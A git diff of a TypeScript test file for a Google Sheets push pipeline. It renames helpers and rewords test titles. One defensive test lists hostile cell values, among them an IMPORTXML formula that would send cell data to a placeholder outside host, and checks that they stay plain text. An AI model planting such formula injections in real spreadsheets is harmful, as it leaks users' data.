@@ -3,10 +3,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
 import { createSheetsClient, type PushError, readServiceAccount } from '../../../pipeline/sheets/client.ts';
-import { pushTable, type SheetPlace } from '../../../pipeline/sheets/push-table.ts';
+import { pushTable, type TabTarget } from '../../../pipeline/sheets/push-table.ts';
 import type { SheetTable } from '../../../pipeline/sheets/tables.ts';
 import { formulasOf, newTab, type Tab, tableOf } from './sheets-grid.ts';
-import { clientEmail, errorBody, private_key, type SheetsServer, startSheetsServer } from './sheets-server.ts';
+import { clientEmail, errorBody, privateKeyText, type SheetsServer, startSheetsServer } from './sheets-server.ts';
 
 const spreadsheetId = 'invented-spreadsheet-0001';
 const signal = AbortSignal.timeout(30_000);
@@ -19,7 +19,7 @@ beforeEach(async () => {
 });
 afterEach(() => server.close());
 
-/** An invented table of one report with as many rows as names. */
+/** Returns an invented report table with one row per name. */
 function table(reportId: string, ...names: string[]): SheetTable {
   return {
     columns: ['name', 'report_id', 'followers', 'seen (UTC)'],
@@ -29,12 +29,12 @@ function table(reportId: string, ...names: string[]): SheetTable {
   };
 }
 
-const place = (mode: SheetPlace['mode'], sheetName = 'Report'): SheetPlace => ({
+const tabIn = (mode: TabTarget['mode'], sheetName = 'Report'): TabTarget => ({
   spreadsheet_id: spreadsheetId,
   sheet_name: sheetName,
   mode,
 });
-const push = (where: SheetPlace, what: SheetTable) => pushTable(server.client, where, what, signal);
+const push = (target: TabTarget, content: SheetTable) => pushTable(server.client, target, content, signal);
 const tabNamed = (title: string) => tabs.find((tab) => tab.title === title) ?? expect.fail(`no tab ${title}`);
 const contents = (title = 'Report') => tableOf(tabNamed(title));
 const problem = (pushed: Promise<unknown>) =>
@@ -43,9 +43,9 @@ const problem = (pushed: Promise<unknown>) =>
     ({ problem, message }: PushError) => ({ problem, message }),
   );
 
-describe.each(['append', 'replace'] as const)('in %s mode', (mode) => {
-  test('a missing tab is made, with its header frozen', async () => {
-    expect(await push(place(mode), table('r1', 'a', 'b'))).toBe(2);
+describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
+  test('creates a missing tab with a frozen header', async () => {
+    expect(await push(tabIn(mode), table('r1', 'a', 'b'))).toBe(2);
     expect(tabNamed('Report').frozen_rows).toBe(1);
     expect(contents()).toEqual([
       ['name', 'report_id', 'followers', 'seen (UTC)'],
@@ -54,9 +54,9 @@ describe.each(['append', 'replace'] as const)('in %s mode', (mode) => {
     ]);
   });
 
-  test('text never becomes a formula, a number, a date or a boolean', async () => {
+  test('keeps text as text, never as a formula, number, date or boolean', async () => {
     const hostile = ['=IMPORTXML("http://x.example/"&A1)', '+1', '-2', '@a', '0012', '1/2', '10%', 'TRUE', "'quoted"];
-    await push(place(mode), table('7350000000000000001', ...hostile));
+    await push(tabIn(mode), table('7350000000000000001', ...hostile));
     expect(formulasOf(tabNamed('Report'))).toEqual([]);
     expect(
       contents()
@@ -66,32 +66,32 @@ describe.each(['append', 'replace'] as const)('in %s mode', (mode) => {
     expect(contents()[1]?.[1]).toBe('7350000000000000001');
   });
 
-  test('numbers are numbers, and moments are shown as such', async () => {
-    await push(place(mode), table('r1', 'a'));
+  test('writes numbers as numbers and times as dates', async () => {
+    await push(tabIn(mode), table('r1', 'a'));
     const types = [1, 2, 3, 4].map((column) => tabNamed('Report').cells.get(`2,${column}`)?.type);
     expect(types).toEqual(['text', 'text', 'number', 'number']);
     expect([...tabNamed('Report').formats]).toEqual([[3, 'yyyy-mm-dd hh:mm']]);
   });
 
-  test('an unknown value is an empty cell', async () => {
+  test('writes an unknown value as an empty cell', async () => {
     const one = table('r1', 'a', 'b');
     one.rows[0] = ['a', 'r1', '', ''];
-    await push(place(mode), one);
+    await push(tabIn(mode), one);
     expect(contents()[1]).toEqual(['a', 'r1']);
   });
 
-  test('a tab that is too small grows, and its name may hold anything', async () => {
+  test('enlarges a tab that is too small, and accepts any tab name', async () => {
     const small = newTab(7, "Anna's 'week' 1:2!", 2, 2);
     tabs.push(small);
-    await push(place(mode, small.title), table('r1', 'a', 'b', 'c', 'd'));
+    await push(tabIn(mode, small.title), table('r1', 'a', 'b', 'c', 'd'));
     expect(contents(small.title)).toHaveLength(5);
     expect(small.columns).toBe(4);
   });
 
-  test('a push whose answer is lost is the same push when it is tried again', async () => {
+  test('has the same result when it is retried after a lost answer', async () => {
     server.mishaps.push({ path: /:append$|values:batchUpdate$/, status: 0, lost: true });
-    expect((await problem(push(place(mode), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
-    await push(place(mode), table('r1', 'a'));
+    expect((await problem(push(tabIn(mode), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
+    await push(tabIn(mode), table('r1', 'a'));
     expect(contents()).toHaveLength(2);
   });
 
@@ -99,20 +99,20 @@ describe.each(['append', 'replace'] as const)('in %s mode', (mode) => {
     [429, 'RESOURCE_EXHAUSTED'],
     [500, 'INTERNAL'],
     [503, 'UNAVAILABLE'],
-  ])('HTTP %d is to be tried again', async (status, word) => {
+  ])('reports HTTP %d as TRY_AGAIN', async (status, word) => {
     server.mishaps.push({ path: /spreadsheets/, status, body: errorBody(status, `invented ${word}`) });
-    expect(await problem(push(place(mode), table('r1', 'a')))).toEqual({
+    expect(await problem(push(tabIn(mode), table('r1', 'a')))).toEqual({
       problem: 'TRY_AGAIN',
-      message: `Google asks to try again later: invented ${word}`,
+      message: `Google is busy, so the push is tried again later: invented ${word}`,
     });
     expect(server.requests.filter((line) => line.includes('spreadsheets'))).toHaveLength(1);
   });
 });
 
-describe('in append mode', () => {
-  test('the next table goes below, without a second header', async () => {
-    await push(place('append'), table('r1', 'a', 'b'));
-    await push(place('append'), table('r2', 'c'));
+describe('a push in append mode only', () => {
+  test('writes the next table below, without a second header', async () => {
+    await push(tabIn('append'), table('r1', 'a', 'b'));
+    await push(tabIn('append'), table('r2', 'c'));
     expect(contents().map((row) => row.slice(0, 2))).toEqual([
       ['name', 'report_id'],
       ['a', 'r1'],
@@ -121,120 +121,120 @@ describe('in append mode', () => {
     ]);
   });
 
-  test('a table that the sheet holds already is not written again', async () => {
-    await push(place('append'), table('r1', 'a'));
-    await push(place('append'), table('r2', 'b'));
-    expect(await push(place('append'), table('r1', 'a'))).toBe(0);
+  test('does not write a table that the tab already has', async () => {
+    await push(tabIn('append'), table('r1', 'a'));
+    await push(tabIn('append'), table('r2', 'b'));
+    expect(await push(tabIn('append'), table('r1', 'a'))).toBe(0);
     expect(contents()).toHaveLength(3);
   });
 
-  test('what stands below the table is moved down, not overwritten', async () => {
-    await push(place('append'), table('r1', 'a'));
+  test('moves cells below the table down instead of overwriting them', async () => {
+    await push(tabIn('append'), table('r1', 'a'));
     tabNamed('Report').cells.set('4,1', { type: 'text', value: 'a note of mine' });
-    await push(place('append'), table('r2', 'b', 'c'));
+    await push(tabIn('append'), table('r2', 'b', 'c'));
     expect(contents().map((row) => row[0])).toEqual(['name', 'a', 'b', 'c', undefined, 'a note of mine']);
   });
 
-  test('columns of the person to the right of the table stay', async () => {
-    await push(place('append'), table('r1', 'a'));
+  test('keeps columns of the user to the right of the table', async () => {
+    await push(tabIn('append'), table('r1', 'a'));
     tabNamed('Report').columns = 5;
     tabNamed('Report').cells.set('1,5', { type: 'text', value: 'my column' });
-    expect(await push(place('append'), table('r2', 'b'))).toBe(1);
+    expect(await push(tabIn('append'), table('r2', 'b'))).toBe(1);
     expect(contents()[0]?.[4]).toBe('my column');
   });
 
-  test('a tab that holds something else is left alone', async () => {
+  test('does not change a tab with other content', async () => {
     tabNamed('Sheet1').cells.set('1,1', { type: 'text', value: 'my accounts' });
-    expect((await problem(push(place('append', 'Sheet1'), table('r1', 'a')))).problem).toBe('OTHER_TABLE');
+    expect((await problem(push(tabIn('append', 'Sheet1'), table('r1', 'a')))).problem).toBe('OTHER_TABLE');
     expect(contents('Sheet1')).toEqual([['my accounts']]);
   });
 });
 
-describe('in replace mode', () => {
-  test('the tab holds the table and nothing else', async () => {
-    await push(place('replace'), table('r1', 'a', 'b', 'c'));
+describe('a push in replace mode only', () => {
+  test('leaves nothing but the table in the tab', async () => {
+    await push(tabIn('replace'), table('r1', 'a', 'b', 'c'));
     tabNamed('Report').columns = 6;
     tabNamed('Report').cells.set('2,6', { type: 'text', value: 'beside' });
     tabNamed('Report').cells.set('9,1', { type: 'text', value: 'below' });
-    await push(place('replace'), table('r2', 'd'));
+    await push(tabIn('replace'), table('r2', 'd'));
     expect(contents()).toEqual([
       ['name', 'report_id', 'followers', 'seen (UTC)'],
       ['d', 'r2', 10, 46_024.5],
     ]);
   });
 
-  test('a failure half way leaves the new table and not an empty sheet', async () => {
-    await push(place('replace'), table('r1', 'a', 'b'));
+  test('leaves the new table and not an empty tab after a failure between its steps', async () => {
+    await push(tabIn('replace'), table('r1', 'a', 'b'));
     server.mishaps.push({ path: /batchClear$/, status: 429 });
-    await problem(push(place('replace'), table('r2', 'c')));
+    await problem(push(tabIn('replace'), table('r2', 'c')));
     expect(contents().map((row) => row[0])).toEqual(['name', 'c', 'b']);
-    await push(place('replace'), table('r2', 'c'));
+    await push(tabIn('replace'), table('r2', 'c'));
     expect(contents().map((row) => row[0])).toEqual(['name', 'c']);
   });
 });
 
-describe('what a person has to put right', () => {
-  test('a spreadsheet that is not shared: with whom to share it', async () => {
+describe('an error that a person must fix', () => {
+  test('says with whom to share a spreadsheet that is not shared', async () => {
     server.hidden.add(spreadsheetId);
-    expect(await problem(push(place('append'), table('r1', 'a')))).toEqual({
+    expect(await problem(push(tabIn('append'), table('r1', 'a')))).toEqual({
       problem: 'NOT_SHARED',
       message: `Share the spreadsheet with ${clientEmail} as an editor.`,
     });
   });
 
-  test('a spreadsheet that does not exist', async () => {
-    const elsewhere = { ...place('append'), spreadsheet_id: 'invented-spreadsheet-9999' };
+  test('reports a spreadsheet that does not exist', async () => {
+    const elsewhere = { ...tabIn('append'), spreadsheet_id: 'invented-spreadsheet-9999' };
     expect((await problem(push(elsewhere, table('r1', 'a')))).problem).toBe('SHEET_NOT_FOUND');
   });
 
-  test('the API is switched off in the project', async () => {
+  test('reports that the API is off in the Google project', async () => {
     const body = errorBody(403, 'Google Sheets API has not been used in project 1', 'SERVICE_DISABLED');
     server.mishaps.push({ path: /spreadsheets/, status: 403, body });
-    expect((await problem(push(place('append'), table('r1', 'a')))).problem).toBe('NOT_CONFIGURED');
+    expect((await problem(push(tabIn('append'), table('r1', 'a')))).problem).toBe('NOT_CONFIGURED');
   });
 
-  test('a protected tab: what Google says', async () => {
-    const said = 'You are trying to edit a protected cell or object.';
-    server.mishaps.push({ path: /:append$/, status: 400, body: errorBody(400, said) });
-    expect(await problem(push(place('append'), table('r1', 'a')))).toEqual({
+  test('repeats the message of Google for a protected tab', async () => {
+    const googleMessage = 'You are trying to edit a protected cell or object.';
+    server.mishaps.push({ path: /:append$/, status: 400, body: errorBody(400, googleMessage) });
+    expect(await problem(push(tabIn('append'), table('r1', 'a')))).toEqual({
       problem: 'REFUSED',
-      message: `Google refused the table: ${said}`,
+      message: `Google refused the table: ${googleMessage}`,
     });
   });
 
-  test('a key that Google does not accept', async () => {
+  test('reports a key that Google does not accept', async () => {
     server.mishaps.push({ path: /^\/token$/, status: 400, body: { error: 'invalid_grant', error_description: 'no' } });
-    const { problem: what, message } = await problem(push(place('append'), table('r1', 'a')));
+    const { problem: what, message } = await problem(push(tabIn('append'), table('r1', 'a')));
     expect([what, message]).toEqual(['NOT_CONFIGURED', expect.stringContaining('invalid_grant')]);
   });
 });
 
-test('signs in once and asks one attempt of each method', async () => {
-  await push(place('append'), table('r1', 'a'));
-  await push(place('append'), table('r2', 'a'));
+test('the client signs in once and calls each method once', async () => {
+  await push(tabIn('append'), table('r1', 'a'));
+  await push(tabIn('append'), table('r2', 'a'));
   expect(server.requests.filter((line) => line === 'POST /token')).toHaveLength(1);
 });
 
-test('a token endpoint that is down is asked once a push', async () => {
+test('the client calls a failing token endpoint once per push', async () => {
   server.mishaps.push({ path: /^\/token$/, status: 503 });
-  expect((await problem(push(place('append'), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
+  expect((await problem(push(tabIn('append'), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
   expect(server.requests).toEqual(['POST /token']);
 });
 
-test('an error holds neither the key nor the token', async () => {
+test('an error contains neither the key nor the token', async () => {
   server.hidden.add(spreadsheetId);
-  const error = await push(place('append'), table('r1', 'a')).catch((thrown: unknown) => thrown);
+  const error = await push(tabIn('append'), table('r1', 'a')).catch((thrown: unknown) => thrown);
   const { inspect } = await import('node:util');
   expect(inspect(error, { depth: 10, showHidden: true })).not.toMatch(/ya29|PRIVATE KEY|Bearer/);
 });
 
-test('a push stops when its time is over', async () => {
-  const fetcher = () => expect.fail('nothing is sent');
-  const client = createSheetsClient({ client_email: clientEmail, private_key }, fetcher);
-  await expect(pushTable(client, place('append'), table('r1', 'a'), AbortSignal.abort())).rejects.toThrow();
+test('a push stops at its time-out', async () => {
+  const fetcher = () => expect.fail('nothing may be sent');
+  const client = createSheetsClient({ client_email: clientEmail, private_key: privateKeyText }, fetcher);
+  await expect(pushTable(client, tabIn('append'), table('r1', 'a'), AbortSignal.abort())).rejects.toThrow();
 });
 
-describe('the credentials file', () => {
+describe('the key file of a service account', () => {
   const written = async (content: string) => {
     const folder = await mkdtemp(join(tmpdir(), 'tidemark-account-'));
     onTestFinished(() => rm(folder, { recursive: true }));
@@ -243,29 +243,34 @@ describe('the credentials file', () => {
     return path;
   };
 
-  test('is read as Google gives it', async () => {
+  test('is read in the format of Google', async () => {
     const path = await written(
-      JSON.stringify({ type: 'service_account', client_email: clientEmail, private_key, token_uri: 'x' }),
+      JSON.stringify({
+        type: 'service_account',
+        client_email: clientEmail,
+        private_key: privateKeyText,
+        token_uri: 'x',
+      }),
     );
-    expect(readServiceAccount(path)).toEqual({ client_email: clientEmail, private_key });
+    expect(readServiceAccount(path)).toEqual({ client_email: clientEmail, private_key: privateKeyText });
   });
 
   test.each([
     ['no JSON', '{', /cannot be read: it is not JSON/],
-    ['no object', '[]', /no key file of a service account/],
-    ['no key', JSON.stringify({ client_email: clientEmail }), /: private_key$/],
+    ['no object', '[]', /is not a key file of a service account/],
+    ['no key', JSON.stringify({ client_email: clientEmail }), /: check private_key\.$/],
     [
       'a broken key',
       JSON.stringify({ client_email: clientEmail, private_key: 'secret PRIVATE KEY' }),
-      /: private_key$/,
+      /: check private_key\.$/,
     ],
-  ])('%s: says what is wrong and not what is in it', async (_, content, message) => {
+  ])('with %s is refused without showing its content', async (_, content, message) => {
     const path = await written(content);
     expect(() => readServiceAccount(path)).toThrow(message);
     expect(() => readServiceAccount(path)).not.toThrow(/secret/);
   });
 
-  test('a missing one is named', () => {
+  test('that is missing is named in the error', () => {
     expect(() => readServiceAccount('/nowhere/account.json')).toThrow(/\/nowhere\/account.json cannot be read: ENOENT/);
   });
 });
